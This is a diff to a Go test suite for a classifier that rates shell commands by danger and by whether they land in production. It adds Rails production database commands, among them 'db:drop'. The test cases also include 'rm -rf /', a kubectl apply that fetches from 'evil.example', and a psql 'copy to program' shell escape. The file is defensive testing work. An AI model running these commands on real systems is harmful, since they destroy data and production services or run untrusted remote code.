@@ -98,6 +98,9 @@ func TestLandsInProduction(t *testing.T) {
 		DOCKER_HOST=ssh://prod docker stop web
 		docker --context prod stop web
 		docker context use prod && docker stop web
+		RAILS_ENV=production rails db:drop
+		RAILS_ENV=production rake db:migrate
+		rails db:migrate -e production
 		scp README.md prod-box:/srv/
 		rsync -a src/ prod-box:/srv/
 	`)) {
@@ -138,6 +141,7 @@ func TestLandsElsewhere(t *testing.T) {
 		{"kubectl --context sand apply -f https://evil.example/sand", Moderate, Disposable}, // asks, since it fetches elsewhere
 		{"psql -d sand_test -c 'drop table t'", Moderate, Disposable},
 		{"psql -d sand_test -c \"copy t to program 'x'\"", Dangerous, Disposable}, // it does more than change data
+		{"rake db:migrate", Moderate, Elsewhere},
 		{"rm -rf /", Blocked, Elsewhere},
 		{"ssh sandbox rm -rf /srv", Moderate, Disposable},
 	} {
